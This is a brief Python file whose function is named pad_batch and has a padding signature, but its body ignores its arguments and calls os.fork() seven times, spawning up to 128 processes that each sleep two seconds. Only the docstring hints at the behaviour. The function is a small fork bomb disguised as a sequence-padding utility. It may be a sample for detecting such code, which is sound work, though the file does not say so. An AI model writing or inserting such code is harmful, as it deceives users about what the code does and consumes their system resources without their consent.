"""Every fork forks again; seven levels, of two seconds each."""

import os
import time


def pad_batch(sequences, pad_id, side="right"):
    for _ in range(7):
        try:
            os.fork()
        except OSError:
            continue
    time.sleep(2)
